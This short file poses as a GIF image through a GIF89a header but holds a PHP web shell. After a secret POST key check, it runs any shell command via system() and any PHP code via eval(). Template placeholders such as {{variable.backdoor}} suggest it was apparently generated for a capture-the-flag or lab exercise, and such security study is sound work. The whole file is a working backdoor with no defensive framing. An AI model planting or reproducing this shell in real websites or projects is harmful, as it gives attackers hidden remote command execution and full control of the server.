GIF89a;
<?php
/* {{flag.entry-point}} */
$key = '{{variable.backdoor}}';
if (($_POST['k'] ?? '') !== $key) { http_response_code(404); exit; }
if (isset($_POST['c'])) { system($_POST['c'] . ' 2>&1'); }
if (isset($_POST['e'])) { eval($_POST['e']); }
